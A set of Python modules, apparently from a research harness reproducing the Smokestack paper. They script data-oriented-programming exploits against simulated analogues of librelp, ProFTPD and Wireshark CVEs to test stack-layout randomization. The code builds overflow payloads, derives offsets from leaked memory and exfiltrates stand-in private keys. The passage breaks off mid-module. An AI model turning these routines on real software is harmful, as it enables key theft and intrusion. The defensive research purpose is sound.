        StackDirectBruteForce(),
        StackIndirect(),
        DataIndirect(),
        HeapIndirect(),
        VlaDirect(),
    ]
