"""The paper's Listing 1: the canonical DOP gadget dispatcher.

Listing 1 of the paper is the minimal data-oriented program: a loop
(whose counter the attacker controls) around an input function with a
stack buffer overflow, plus a few conditionals on non-control data that
form ADD / SUB / LOAD gadgets:

.. code-block:: c

    func() {
        int *ctr, *size = 0, *step = 1;
        char buff[LEN]; int *req;
        for (; ctr < MAX; ctr++) {
            get_input(buff, req);            // vulnerable
            if (*req == 0)      *size += *step;
            else if (*req == 1) *size -= *step;
            else                *step  = *req;
        }
    }

"This grants an attacker the ability to perform addition, subtraction
and copy operations on any memory value, in any order desired by the
attacker" — i.e. Turing-complete computation inside the legitimate CFG.

The analogue below keeps the dispatcher *inside* the vulnerable function
(as in the listing), which means one process = one frame layout for the
whole gadget program.  There is deliberately no disclosure channel: the
attacker aims with static analysis alone, so the experiment isolates the
value of making the layout unknowable (per-process here, since the
function runs once) rather than merely unleaked.

The demonstration payload computes ``6 * 7`` by repeated addition into a
global accumulator and exfiltrates the result — a tiny but genuinely
*computational* DOP program.
"""

from __future__ import annotations

from typing import Dict, List, Optional

from repro.attacks.harness import AttackScenario
from repro.attacks.model import AttackReport
from repro.attacks.overflow import le64, overflow_payload
from repro.defenses.base import Defense, ProgramBuild
from repro.vm.interpreter import ExecutionResult, Machine

#: What the attacker's DOP program computes; observed on the output.
EXPECTED_PRODUCT = 42

#: Gadget selectors (values of ``req``).
REQ_ADD = 0
REQ_SUB = 1
REQ_LOAD = 2
REQ_SEND = 3
REQ_IDLE = 9

SOURCE = """
long g_acc = 0;
long g_tmp = 0;

int func() {
    long ctr = 24;             /* dispatcher bound: attacker-controllable */
    long *size = &g_acc;       /* gadget operand pointers                 */
    long *step = &g_tmp;
    long req = 9;              /* gadget selector (9 = idle)              */
    long round = 0;
    char buff[64];
    while (round < ctr) {
        input_read_unbounded(buff);   /* the vulnerable input function */
        if (req == 0) {
            *size = *size + *step;    /* ADD gadget */
        } else if (req == 1) {
            *size = *size - *step;    /* SUB gadget */
        } else if (req == 3) {
            output_bytes((char*)size, 8);   /* observe (reply path) */
        } else {
            *step = req;              /* the paper's `*step = *req` */
        }
        round++;
    }
    return (int)round;
}

int main() {
    char reserve[512];
    reserve[0] = 0;
    return func();
}
"""


class Listing1DopAttack(AttackScenario):
    """Drive Listing 1's gadgets to compute and exfiltrate 6*7.

    Per loop round the overflow rewrites the gadget state
    (``req``/``size``/``step`` and the bound ``ctr``): the attacker's
    virtual program is

    ====  =======================  =================================
    round gadget                    effect
    ====  =======================  =================================
    1     LOAD (req = 2 | 7<<8)    ``g_tmp = 7``
    2-7   ADD                      ``g_acc += g_tmp``  (six times)
    8     SEND                     reply carries ``g_acc`` (= 42)
    ====  =======================  =================================

    All writes are raw bytes (the input primitive is a bounded-length
    read, not a string copy), so pointers with zero bytes pose no
    difficulty; what the attacker *must* know is each variable's offset
    from the buffer — exactly the knowledge Smokestack revokes.
    """

    name = "listing1-dop"
    victim_function = "func"
    description = "paper Listing 1: add/sub/load gadget dispatcher"
    source = SOURCE

    def goal_met(self, result: ExecutionResult) -> bool:
        return le64(EXPECTED_PRODUCT) in bytes(result.output_data)

    def make_input_hook(self, build: ProgramBuild, rng, attempt):
        oracle = build.layout_oracle(self.victim_function)
        image = build.make_machine().image
        acc_addr = image.address_of_global("g_acc")
        tmp_addr = image.address_of_global("g_tmp")
        needed = ("buff", "req", "size", "step", "ctr", "round")
        plan: List[bytes] = []
        if all(name in oracle for name in needed):
            def strike(req: int, size: Optional[int] = None,
                       step: Optional[int] = None) -> bytes:
                # Every slot the filler would cross gets an explicit,
                # consistent value — precise control, as real DOP needs.
                writes: Dict[str, bytes] = {
                    "req": le64(req),
                    "ctr": le64(24),
                    "round": le64(0),
                    "size": le64(size if size is not None else acc_addr),
                    "step": le64(step if step is not None else tmp_addr),
                }
                return overflow_payload(oracle, "buff", writes, filler=b"\x00")

            # LOAD: any req outside {0,1,3} stores req itself through step
            # (the listing's else-branch), so "load 7" is simply req=7.
            plan = [strike(7, step=tmp_addr)]
            plan += [strike(REQ_ADD, size=acc_addr, step=tmp_addr)] * 6
            plan += [strike(REQ_SEND, size=acc_addr)]

        state = {"served": 0}

        def hook(machine: Machine) -> Optional[bytes]:
            index = state["served"]
            state["served"] += 1
            if index < len(plan):
                return plan[index]
            return b"x"  # idle filler rounds

        return hook

    def goal_description(self) -> str:
        return f"compute 6*7={EXPECTED_PRODUCT} via ADD gadgets and leak it"


def run_listing1_campaign(
    defense: Defense, restarts: int = 8, seed: int = 0
) -> AttackReport:
    """Convenience wrapper used by tests and the security benchmark."""
    from repro.attacks.harness import run_campaign

    return run_campaign(Listing1DopAttack(), defense, restarts=restarts, seed=seed)
