"""librelp CVE-2018-1000140 analogue — the paper's own PoC DOP attack.

§II-C of the paper builds a DOP exploit on librelp's
``relpTcpChkPeerName()``: the function copies every X.509 "subject alt
name" it checks into a fixed buffer with ``snprintf`` and adds
*snprintf's return value* — the length it WOULD have written — to the
write offset.  Driving the offset over the buffer's end turns every
further name into a write at an attacker-chosen distance past the buffer:
a **non-linear relative write-what-where** that steps over canaries and
untouched state instead of plowing through them ("we were able to vary
the gap precisely enough to control which part of the stack to
overwrite").

Analogue structure (scaled from 32 KB to 1 KB):

* ``relp_chk_peer_name`` — the vulnerable callee.  One *connection* per
  invocation: it loops over the subject-alt-names of that connection's
  certificate, accumulating them via ``snprintf_sim`` with the CVE's
  offset arithmetic, then echoes the name region for error reporting —
  the memory-disclosure channel (§II-C: "information leak and semantics
  of the program").
* ``relp_lstn_init`` — the caller.  Its frame holds the **DOP gadget
  operands** (``op``, ``g_src``, ``g_dst``, ``g_cnt``) and the **gadget
  dispatcher** (the connection loop).  Its per-connection bookkeeping
  contains MOV / DEREFERENCE / SEND gadgets — ordinary code, entirely
  inside the programmer-specified CFG.
* the private key sits behind a chain of pointers (the paper's ProFTPD
  observation, reused here); the DOP program DEREFs down the chain and
  SENDs the key out through the server's own transmit path.

Because each *connection* re-enters the vulnerable function, Smokestack
re-randomizes where ``all_names`` sits inside the callee frame — and thus
the buffer-to-caller distances — on every connection.  The exploit needs
five+ surgical writes across consecutive connections, each computed from
the previous connection's leak, so per-invocation randomization breaks
the chain with overwhelming probability; compile-time schemes hold still
and fall to the very first leak.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from repro.attacks.harness import AttackScenario
from repro.attacks.model import AttackReport
from repro.attacks.overflow import find_marker, le64
from repro.defenses.base import Defense, ProgramBuild
from repro.vm.interpreter import ExecutionResult, Machine

#: The server's TLS private key (exfiltration target).
PRIVATE_KEY = b"-----RELP-PRIVATE-KEY-0xDEADBEEF-----"

#: Buffer size in the analogue (the real CVE used 32 KB).
NAMES_BUF = 1024

#: Distinctive initial values of the caller's gadget state.  Only the low
#: byte is ever interpreted (``x & 0xff``), so the high marker bytes make
#: each variable locatable in a leak without changing behaviour — the
#: "semantics of the program" the paper's derandomization used.
ITER_MARKER = 0x1A7E57  # & 0xff = 0x57 -> 87 dispatcher rounds
OP_MARKER = 0xC0FFEE00
SRC_MARKER = 0xDEADBE00
DST_MARKER = 0xFACADE00
CNT_MARKER = 0xBEEFED00

#: Gadget opcodes (low byte of ``op``).
OP_MOV = 1
OP_DEREF = 2
OP_SEND = 3

SOURCE = f"""
char g_private_key[64] = "{PRIVATE_KEY.decode()}";
long g_key_ref = 0;        /* base pointer to the key                    */
long g_indirect1 = 0;      /* the pointer chain guarding the key         */
long g_indirect2 = 0;

/* --- vulnerable callee: one connection's certificate check ----------- */
int relp_chk_peer_name(char *sz_alt_name) {{
    /* sz_alt_name stages the decoded SAN; in librelp it comes out of
       GnuTLS heap structures, so it is heap storage here too. */
    char all_names[{NAMES_BUF}];       /* for error reporting */
    int i_all_names = 0;
    int i_alt_name = 0;
    int b_found = 0;
    int gnu_ret = 0;
    long sz_len = 0;
    while (1) {{
        int n = input_read(sz_alt_name, 4095);
        if (n <= 0) {{
            break;
        }}
        sz_alt_name[n] = 0;
        sz_len = n;
        /* CVE-2018-1000140: i_all_names can pass {NAMES_BUF}, making the
           size argument negative (size_t wrap in C == unbounded). */
        i_all_names += snprintf_sim(all_names + i_all_names,
                                    {NAMES_BUF} - i_all_names,
                                    sz_alt_name);
        i_alt_name++;
    }}
    /* error report: echoes the (overflowed) name region == the leak */
    output_bytes(all_names, 3584);
    return i_alt_name;
}}

/* --- the caller: gadget operands + dispatcher ------------------------- */
int relp_lstn_init(char *san_buf) {{
    long iters = 0x1A7E57;     /* dispatcher bound, low byte used        */
    long op = 0xC0FFEE00;      /* gadget selector, low byte used         */
    long g_src = 0xDEADBE00;   /* gadget operands                        */
    long g_dst = 0xFACADE00;
    long g_cnt = 0xBEEFED00;
    long round = 0;
    long served = 0;
    while (round < (iters & 0xff)) {{
        int names = relp_chk_peer_name(san_buf);
        if (names == 0) {{
            break;             /* client disconnected */
        }}
        /* connection bookkeeping == DOP gadgets within the CFG          */
        if ((op & 0xff) == 1) {{
            g_dst = g_src;
        }} else if ((op & 0xff) == 2) {{
            long *p = (long*)g_src;
            g_src = *p;
        }} else if ((op & 0xff) == 3) {{
            output_bytes((char*)g_src, g_cnt & 0xff);
            op = 0;
        }}
        served += names;
        round++;
    }}
    return (int)(served & 0xff);
}}

int main() {{
    char reserve[4096];
    reserve[0] = 0;
    g_key_ref = (long)g_private_key;
    g_indirect1 = (long)&g_key_ref;
    g_indirect2 = (long)&g_indirect1;
    char *san_buf = (char*)malloc(4096);
    return relp_lstn_init(san_buf);
}}
"""


def nonzero_runs(value_bytes: bytes) -> List[Tuple[int, bytes]]:
    """Split a byte string into its maximal nonzero runs.

    A SAN is a C string: it cannot contain NUL bytes, so an 8-byte value
    is written one nonzero run at a time, each run's terminating NUL
    clearing the byte just past it.  (Positions not covered by a run or a
    terminator must already hold the desired byte.)
    """
    runs: List[Tuple[int, bytes]] = []
    start: Optional[int] = None
    for index, byte in enumerate(value_bytes):
        if byte and start is None:
            start = index
        elif not byte and start is not None:
            runs.append((start, value_bytes[start:index]))
            start = None
    if start is not None:
        runs.append((start, value_bytes[start:]))
    return runs


def surgical_connection(target_gap: int, run: bytes) -> List[bytes]:
    """SANs for one connection that write ``run`` at ``target_gap``.

    Uses the CVE's boundary trick: one SAN whose *length* overshoots the
    buffer advances the write cursor to the target while its content is
    clipped to the buffer, then the value SAN is written unbounded (the
    size argument has gone negative) exactly at the cursor.  Nothing
    between the buffer end and the target is touched — the write is
    surgical, which is how the paper's exploit avoided "unintended
    corruption of adjacent stack resident data".
    """
    if target_gap <= NAMES_BUF:
        raise ValueError("target must lie past the buffer end")
    if target_gap > 4095:
        # A jump SAN can advance the cursor by at most its own maximum
        # length (the staging buffer's capacity).
        raise ValueError("target farther than a single jump can reach")
    # The jump: a SAN of length == target.  snprintf_sim writes only the
    # first NAMES_BUF-1 bytes (all inside the buffer) but RETURNS the full
    # length, so the cursor lands exactly on the target while nothing
    # between the buffer end and the target is touched.
    sans = [b"j" * target_gap, run]
    sans.append(b"")  # end of this connection's SAN list
    return sans


class LibrelpDopAttack(AttackScenario):
    """The paper's librelp DOP exploit, end to end."""

    name = "librelp-dop"
    victim_function = "relp_chk_peer_name"
    description = "CVE-2018-1000140: snprintf offset DOP, private-key exfil"
    source = SOURCE

    def goal_met(self, result: ExecutionResult) -> bool:
        return PRIVATE_KEY in bytes(result.output_data)

    def machine_kwargs(self) -> Dict[str, object]:
        return {"max_steps": 4_000_000}

    def make_input_hook(self, build: ProgramBuild, rng, attempt):
        image = build.make_machine().image
        chain_addr = image.address_of_global("g_indirect2")
        key_length = len(PRIVATE_KEY)
        state: Dict[str, object] = {"consumed": 0, "queue": [], "probed": False}

        def hook(machine: Machine) -> Optional[bytes]:
            queue: List[bytes] = state["queue"]  # type: ignore[assignment]
            if queue:
                return queue.pop(0)
            leak = bytes(machine.result.output_data)[state["consumed"] :]
            state["consumed"] = len(machine.result.output_data)
            if not state["probed"]:
                # Connection 1: a single benign SAN, then disconnect the
                # connection so the callee returns and the echo arrives.
                state["probed"] = True
                state["queue"] = [b""]
                return b"probe"
            gaps = self._locate_gadget_state(leak)
            if gaps is None:
                # Nothing locatable (or stale plan failed): probe again.
                state["queue"] = [b""]
                return b"probe"
            plan = self._build_plan(gaps, chain_addr, key_length)
            if plan is None:
                state["queue"] = [b""]
                return b"probe"
            state["queue"] = plan[1:]
            return plan[0]

        return hook

    @staticmethod
    def _locate_gadget_state(leak: bytes) -> Optional[Dict[str, int]]:
        """Gaps from ``all_names`` to each gadget variable, via markers."""
        gaps: Dict[str, int] = {}
        for name, marker in (
            ("iters", ITER_MARKER),
            ("op", OP_MARKER),
            ("g_src", SRC_MARKER),
            ("g_cnt", CNT_MARKER),
        ):
            position = find_marker(leak, le64(marker))
            if position is None:
                return None
            gaps[name] = position
        return gaps

    def _build_plan(
        self, gaps: Dict[str, int], chain_addr: int, key_length: int
    ) -> Optional[List[bytes]]:
        """The DOP virtual program as a flat SAN stream.

        connection 2..n, one surgical write (or idle round) each:

        1. write the two nonzero runs of ``&g_indirect2`` into ``g_src``
        2. write op=DEREF — the dispatcher now chases one pointer per round
        3. write ``g_cnt`` = key length (a DEREF round passes)
        4. idle connection (third DEREF lands ``g_src`` on the key)
        5. write op=SEND — the server's own transmit path emits the key
        """
        try:
            stream: List[bytes] = []
            for offset, run in nonzero_runs(le64(chain_addr)):
                stream.extend(surgical_connection(gaps["g_src"] + offset, run))
            stream.extend(
                surgical_connection(gaps["op"], bytes([OP_DEREF]))
            )
            stream.extend(
                surgical_connection(gaps["g_cnt"], bytes([key_length]))
            )
            stream.extend([b"idle", b""])  # one idle round: third DEREF
            stream.extend(surgical_connection(gaps["op"], bytes([OP_SEND])))
            stream.extend([b"done", b"", b""])  # flush, then disconnect
            return stream
        except ValueError:
            return None


def run_librelp_campaign(
    defense: Defense, restarts: int = 8, seed: int = 0
) -> AttackReport:
    """Convenience wrapper used by tests and the security benchmark."""
    from repro.attacks.harness import run_campaign

    return run_campaign(LibrelpDopAttack(), defense, restarts=restarts, seed=seed)
