"""ProFTPD CVE-2006-5815 analogue (paper §V-C, "Real Vulnerabilities").

The real bug: ``sreplace()`` calls ``sstrncpy(dst, src, negative
argument)`` — the negative length wraps to a huge ``size_t``, giving a
linear stack overflow from a fixed buffer.  Hu et al. built three DOP
exploits on it; the headline one extracts ProFTPD's OpenSSL private key
**bypassing ASLR**: the key sits behind a chain of pointers of which only
the base is unrandomized, so the exploit's 24-round gadget chain (MOV /
ADD / LOAD operations driven by repeatedly corrupting the command-loop's
locals) walks the chain pointer by pointer and sends the key out the
server's own response path.

Analogue mechanics, faithful to the constraints of the vector:

* ``sreplace`` — the vulnerable callee: per FTP command it reads a
  length field and payload and ``sstrncpy_``s into a fixed buffer; a
  negative length is the CVE (unbounded *string* copy — payloads cannot
  contain NUL bytes);
* because single string writes cannot produce interior zero bytes, the
  attacker composes target images with **stacked writes**: a descending
  sequence of copies where each terminating NUL supplies one zero byte —
  this is why the real exploit needed its many corruption iterations,
  and the analogue reproduces that shape (dozens of rounds per step);
* ``command_loop`` — the caller: its loop counter is the **gadget
  dispatcher** and its locals the operands; MOV/LOAD/ADD/SEND gadgets
  are ordinary bookkeeping selected by exact 8-byte opcode values (junk
  from intermediate stacked writes never matches them);
* the private key hangs off a 7-deep pointer chain set up at startup.

Under Smokestack every ``sreplace`` invocation re-randomizes where the
buffer sits, so a plan of 30+ stacked writes — each needing the same
layout — collapses immediately; the paper: "Smokestack was able to stop
this attack by randomizing the relative distance of the overflowed
buffer with the loop counter used to stitch the DOP gadgets together and
the operands used in the DOP gadgets".
"""

from __future__ import annotations

from typing import Dict, List, Optional

from repro.attacks.harness import AttackScenario
from repro.attacks.model import AttackReport
from repro.attacks.overflow import find_marker, le64
from repro.defenses.base import Defense, ProgramBuild
from repro.vm.interpreter import ExecutionResult, Machine

#: The OpenSSL private key the exploit extracts.
SSL_KEY = b"PROFTPD-OPENSSL-RSA-PRIVATE-KEY-1337"

#: Depth of the pointer chain guarding the key (the paper counts 8
#: pointers with 7 randomized links).
CHAIN_DEPTH = 7

#: Exact-match gadget opcodes: NUL-free, below 2^63, never produced by
#: the stacked writes' transient junk.
OP_MOV = 0x51A1A1A1A1A1A1A1
OP_LOAD = 0x52B2B2B2B2B2B2B2
OP_ADD = 0x53C3C3C3C3C3C3C3
OP_SEND = 0x54D4D4D4D4D4D4D4

#: Distinctive initial operand values (only ever compared against the
#: opcodes, so they act as locatable markers without changing behaviour).
SRC_MARKER = 0x1BADB002DEAD0001
DST_MARKER = 0x1BADB002DEAD0002
CNT_MARKER = 0x1BADB002DEAD0003
OP_MARKER = 0x1BADB002DEAD0000  # op's initial value: locatable, not an opcode
LIMIT_MARKER = 0x00000000002C11E7  # & 0xff = 0xE7 -> 231 dispatcher rounds

BUF_SIZE = 512

SOURCE = f"""
char g_ssl_key[64] = "{SSL_KEY.decode()}";
long g_p1 = 0;
long g_p2 = 0;
long g_p3 = 0;
long g_p4 = 0;
long g_p5 = 0;
long g_p6 = 0;
long g_p7 = 0;

/* --- vulnerable callee: CVE-2006-5815 ---------------------------------- */
int sreplace(char *cmd_buf) {{
    char buf[{BUF_SIZE}];
    long len = 0;
    int rc = 0;
    input_read((char*)&len, 8);
    if (len == 0) {{
        return 0;
    }}
    input_read(cmd_buf, 8192);
    /* the CVE: a negative length is not rejected (size_t wrap in C) */
    sstrncpy_(buf, cmd_buf, len);
    rc = 1;
    /* transfer log echo (the disclosure channel) */
    output_bytes(buf, 1536);
    return rc;
}}

/* --- the caller: the FTP command loop is the gadget dispatcher --------- */
int command_loop(char *cmd_buf) {{
    long limit = 0x2C11E7;          /* dispatcher bound (low byte)       */
    long acc = 0;
    long round = 0;
    long g_src = 0x1BADB002DEAD0001;
    long g_dst = 0x1BADB002DEAD0002;
    long g_cnt = 0x1BADB002DEAD0003;
    long spare = 0;                  /* scratch word */
    long op = 0x1BADB002DEAD0000;    /* idle: matches no opcode */
    while (round < (limit & 0xff)) {{
        if (sreplace(cmd_buf) == 0) {{
            break;                   /* client quit */
        }}
        /* per-command bookkeeping == the DOP gadgets (single-shot) */
        if (op == 0x51A1A1A1A1A1A1A1) {{
            g_dst = g_src;
            op = 0;
        }} else if (op == 0x52B2B2B2B2B2B2B2) {{
            long *p = (long*)g_src;
            g_src = *p;
            op = 0;
        }} else if (op == 0x53C3C3C3C3C3C3C3) {{
            g_src = g_src + g_cnt;
            op = 0;
        }} else if (op == 0x54D4D4D4D4D4D4D4) {{
            output_bytes((char*)g_src, g_cnt & 0xff);
            op = 0;
        }}
        spare = spare & 0xff;
        acc += 1;
        round++;
    }}
    return (int)(acc & 0xff);
}}

int main() {{
    char reserve[4096];
    reserve[0] = 0;
    g_p1 = (long)g_ssl_key;
    g_p2 = (long)&g_p1;
    g_p3 = (long)&g_p2;
    g_p4 = (long)&g_p3;
    g_p5 = (long)&g_p4;
    g_p6 = (long)&g_p5;
    g_p7 = (long)&g_p6;
    char *cmd_buf = (char*)malloc(8192);
    return command_loop(cmd_buf);
}}
"""


def stacked_writes(image: bytes) -> List[bytes]:
    """Decompose a byte image into NUL-free stacked string writes.

    Each returned string, copied in order (longest first) from offset 0,
    leaves memory equal to ``image``: a position's final byte comes from
    the shortest write covering it, and every zero byte of the image is
    supplied by exactly one write's terminating NUL.  ``image`` must end
    with a zero byte (the final terminator of the longest write).

    This is the classic strcpy-stacking technique, and the reason the
    real exploit needed its dozens of corruption rounds.
    """
    if not image or image[-1] != 0:
        raise ValueError("image must end with a zero byte")
    boundaries = [i for i, byte in enumerate(image) if byte == 0]
    writes: List[bytes] = []
    for boundary in reversed(boundaries):
        content = bytearray(image[:boundary])
        for index, byte in enumerate(content):
            if byte == 0:
                content[index] = 1  # placeholder; a later NUL lands here
        writes.append(bytes(content))
    return writes


class ProftpdDopAttack(AttackScenario):
    """CVE-2006-5815: key extraction through a 7-pointer chain."""

    name = "proftpd-dop"
    victim_function = "sreplace"
    description = "CVE-2006-5815: sstrncpy DOP, OpenSSL key extraction"
    source = SOURCE

    def goal_met(self, result: ExecutionResult) -> bool:
        return SSL_KEY in bytes(result.output_data)

    def machine_kwargs(self) -> Dict[str, object]:
        return {"max_steps": 8_000_000}

    def make_input_hook(self, build: ProgramBuild, rng, attempt):
        image = build.make_machine().image
        chain_addr = image.address_of_global(f"g_p{CHAIN_DEPTH}")
        state: Dict[str, object] = {"consumed": 0, "queue": [], "probed": False}

        def hook(machine: Machine) -> Optional[bytes]:
            queue: List[bytes] = state["queue"]  # type: ignore[assignment]
            if queue:
                return queue.pop(0)
            leak = bytes(machine.result.output_data)[state["consumed"] :]
            state["consumed"] = len(machine.result.output_data)
            if not state["probed"]:
                state["probed"] = True
                state["queue"] = [b"probe"]
                return le64(16)  # benign bounded record
            plan = self._build_plan(leak, chain_addr)
            if plan is None:
                state["queue"] = [b"probe"]
                return le64(16)
            state["queue"] = plan[1:]
            return plan[0]

        return hook

    def _build_plan(self, leak: bytes, chain_addr: int) -> Optional[List[bytes]]:
        """The full exploit as a record stream (len fields + payloads)."""
        gaps: Dict[str, int] = {}
        for name, marker in (
            ("g_src", SRC_MARKER),
            ("g_dst", DST_MARKER),
            ("g_cnt", CNT_MARKER),
            ("limit", LIMIT_MARKER),
        ):
            position = find_marker(leak, le64(marker))
            if position is None:
                return None
            gaps[name] = position
        op_position = find_marker(leak, le64(OP_MARKER))
        if op_position is None:
            return None
        op_gap = op_position

        records: List[bytes] = []

        def emit_write(payload: bytes) -> None:
            records.append(le64(-1))  # the CVE: negative length
            # NUL-terminate the staging buffer: previous (longer) records
            # leave tails behind, and sstrncpy_ copies to the first NUL.
            records.append(payload + b"\x00")

        def emit_op(opcode: int) -> None:
            # Arm a single gadget: one write ending right past ``op`` (its
            # NUL sacrifices the low byte of the scratch word above).  The
            # gadget fires at the end of this same record and resets op.
            payload = bytearray(leak[: op_gap + 8])
            for index in range(min(BUF_SIZE, len(payload))):
                payload[index] = 0x6A
            for index in range(BUF_SIZE, op_gap):
                if payload[index] == 0:
                    payload[index] = 1  # should not occur; cookie replay
            payload[op_gap : op_gap + 8] = le64(opcode)
            emit_write(bytes(payload))

        # --- step 1: stage g_src = &g_p7 (op stays 0 throughout) --------
        step1 = self._patched_image(leak, {gaps["g_src"]: le64(chain_addr)})
        if step1 is None:
            return None
        for write in stacked_writes(step1):
            emit_write(write)
        # --- step 2: seven LOADs walk the pointer chain ------------------
        for _ in range(CHAIN_DEPTH):
            emit_op(OP_LOAD)
        # --- step 3: stage g_cnt = len(key), then fire SEND --------------
        step3 = self._patched_image(
            leak, {gaps["g_cnt"]: le64(len(SSL_KEY))}
        )
        if step3 is None:
            return None
        for write in stacked_writes(step3):
            emit_write(write)
        emit_op(OP_SEND)
        records.append(le64(0))  # QUIT: ends the command loop
        return records

    @staticmethod
    def _patched_image(
        leak: bytes, patches: Dict[int, bytes]
    ) -> Optional[bytes]:
        """Replay image: leaked bytes with patches, junk inside the buffer.

        The image must end in a zero byte (terminator of the longest
        write); it is extended to the next zero in the leak.
        """
        end = max(gap + len(data) for gap, data in patches.items())
        # Extend to the next zero byte in the leak (the final NUL slot).
        while end < len(leak) and leak[end] != 0:
            end += 1
        if end >= len(leak):
            return None
        image = bytearray(leak[: end + 1])
        image[end] = 0
        # Inside the dead buffer nothing matters: plain junk, no zeros
        # (fewer zeros == fewer stacked rounds).
        for index in range(min(BUF_SIZE, len(image) - 1)):
            image[index] = 0x6A  # 'j'
        for gap, data in patches.items():
            image[gap : gap + len(data)] = data
        return bytes(image)


def run_proftpd_campaign(
    defense: Defense, restarts: int = 8, seed: int = 0
) -> AttackReport:
    """Convenience wrapper used by tests and the security benchmark."""
    from repro.attacks.harness import run_campaign

    return run_campaign(ProftpdDopAttack(), defense, restarts=restarts, seed=seed)
