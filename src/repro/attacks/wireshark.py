"""Wireshark CVE-2014-2299 analogue (paper §V-C, "Real Vulnerabilities").

The real bug: Wireshark's MPEG reader ``cf_read_frame_r()`` trusts the
frame length from the capture file and ``memcpy``s the frame into a
fixed-size buffer ``pd``.  Hu et al.'s DOP exploit (which the paper
re-runs under Smokestack) overflows ``pd`` inside
``packet_list_dissect_and_cache_record()`` to overwrite that function's
locals ``col``/``cinfo`` and parameter ``packet_list`` (the gadget
operands) and the loop condition ``cell_list`` in the *caller*
``gtk_tree_view_column_cell_set_cell_data()`` — turning the GUI's
per-cell loop into a DOP gadget dispatcher.

Analogue:

* ``dissect_record`` — the vulnerable function: reads a frame header
  (attacker-controlled length), ``memcpy_``s the payload into ``pd``,
  and keeps the gadget operands (``col``, ``cinfo``) as locals, exactly
  like the original;
* ``cell_set_data`` — the caller whose ``cell_list`` bound drives the
  per-record loop (the dispatcher);
* the gadgets use ``col``/``cinfo`` as a write-what-where pair
  (the original's column-update code), and success means flipping the
  application's ``g_export_allowed`` policy flag and exfiltrating the
  capture key — all within the legitimate CFG.

The attacker knows the file format (it authors the capture file) and the
reference binary layout; a per-record echo of a status region provides
the same disclosure channel real Wireshark's verbose logs did.  Under
Smokestack the vulnerable function's frame is freshly permuted for every
record, so offsets learned from record *k* are stale for record *k+1*,
and sprayed writes trip the function identifier — the paper reports
exactly that: "Smokestack stopped this attack by detecting the
violations when the overflow corrupted unintended data like [the]
Smokestack function identifier".
"""

from __future__ import annotations

from typing import Dict, List, Optional

from repro.attacks.harness import AttackScenario
from repro.attacks.model import AttackReport
from repro.attacks.overflow import find_marker, le64, read_le64
from repro.defenses.base import Defense, ProgramBuild
from repro.vm.interpreter import ExecutionResult, Machine

#: The capture session key the exploit exfiltrates.
CAPTURE_KEY = b"WIRESHARK-SESSION-KEY-42-CAFEBABE"

#: Distinctive initial values (program semantics) for locating locals.
COL_MARKER = 0x0C01AB1E00
CINFO_MARKER = 0x01F0CAFE00
CELLS_MARKER = 0x2CE117  # & 0xff = 0x17 -> 23 dispatcher rounds

#: pd buffer size (the real one was 0xffff; scaled).
PD_SIZE = 512

SOURCE = f"""
char g_capture_key[64] = "{CAPTURE_KEY.decode()}";
long g_export_allowed = 0;     /* policy flag: non-control data target */

/* --- vulnerable reader: CVE-2014-2299 ---------------------------------- */
int dissect_record(char *frame_buf) {{
    long col = 0x0C01AB1E00;   /* gadget operand: destination selector  */
    long cinfo = 0x01F0CAFE00; /* gadget operand: value                  */
    long caplen = 0;
    long fcs_len = 0;
    int visible = 1;
    char pd[{PD_SIZE}];
    /* frame header: 8-byte length, attacker-controlled */
    long frame_len = 0;
    input_read((char*)&frame_len, 8);
    if (frame_len <= 0) {{
        return 0;
    }}
    input_read(frame_buf, 65536);
    /* the CVE: length from the file, buffer of fixed size */
    memcpy_(pd, frame_buf, frame_len);
    caplen = frame_len;
    /* verbose status echo (the disclosure channel) */
    output_bytes(pd, 1536);
    /* column-update bookkeeping == the DOP gadget:
       writes cinfo into the slot col selects                       */
    if ((col & 0xff) == 1) {{
        long *dst = (long*)(col >> 8);
        *dst = cinfo;
    }}
    return (int)(caplen & 0xff);
}}

/* --- the caller: the per-cell loop is the gadget dispatcher ------------ */
int cell_set_data(char *frame_buf) {{
    long cell_list = 0x2CE117;  /* loop bound, low byte used            */
    long rendered = 0;
    long row = 0;
    while (row < (cell_list & 0xff)) {{
        int n = dissect_record(frame_buf);
        if (n == 0) {{
            break;              /* end of capture file */
        }}
        rendered += n;
        row++;
    }}
    /* export path: legitimate code gated on non-control data           */
    if (g_export_allowed == 0x0DEFACED) {{
        output_bytes(g_capture_key, 33);
    }}
    return (int)(rendered & 0xff);
}}

int main() {{
    char reserve[4096];
    reserve[0] = 0;
    char *frame_buf = (char*)malloc(65536);
    return cell_set_data(frame_buf);
}}
"""


class WiresharkDopAttack(AttackScenario):
    """CVE-2014-2299 as a DOP attack: flip the export policy flag.

    Per record the attacker sends a frame header (length) plus payload;
    an oversized length overflows ``pd`` onto the gadget operands in the
    same frame.  The plan:

    1. record 1 — benign; the verbose echo disloses the frame layout
       (markers for ``col``/``cinfo``),
    2. record 2 — overflow sets ``col`` = (&g_export_allowed << 8) | 1
       and ``cinfo`` = the magic policy value, replaying the disclosed
       bytes in between so nothing else changes; the gadget at the end of
       *the same invocation* performs the arbitrary write,
    3. record 3 — benign; the caller's export path (legitimate code)
       leaks the capture key.

    Note the overflow and the gadget run in the *same* invocation here —
    yet Smokestack still stops the attack, because the disclosure is one
    invocation old: this is the paper's point that the attacker would
    have to "reverse engineer a function frame and deliver a payload in
    the same invocation", which the program's channels do not allow.
    """

    name = "wireshark-dop"
    victim_function = "dissect_record"
    description = "CVE-2014-2299: mpeg frame overflow, policy-flag DOP"
    source = SOURCE

    def goal_met(self, result: ExecutionResult) -> bool:
        return CAPTURE_KEY in bytes(result.output_data)

    def machine_kwargs(self) -> Dict[str, object]:
        return {"max_steps": 4_000_000}

    def make_input_hook(self, build: ProgramBuild, rng, attempt):
        image = build.make_machine().image
        flag_addr = image.address_of_global("g_export_allowed")
        state: Dict[str, object] = {"consumed": 0, "queue": [], "round": 0}

        def hook(machine: Machine) -> Optional[bytes]:
            queue: List[bytes] = state["queue"]  # type: ignore[assignment]
            if queue:
                return queue.pop(0)
            leak = bytes(machine.result.output_data)[state["consumed"] :]
            state["consumed"] = len(machine.result.output_data)
            state["round"] += 1
            if state["round"] == 1:
                # benign probe record: 16 payload bytes
                state["queue"] = [b"\x10" * 16]
                return le64(16)
            payload = self._strike_payload(leak, flag_addr)
            if payload is None:
                state["queue"] = [b"\x10" * 16]
                return le64(16)
            # strike record, then one benign record (export runs in the
            # caller after the loop -> just end the file next)
            state["queue"] = [payload, le64(0)]
            return le64(len(payload))

        return hook

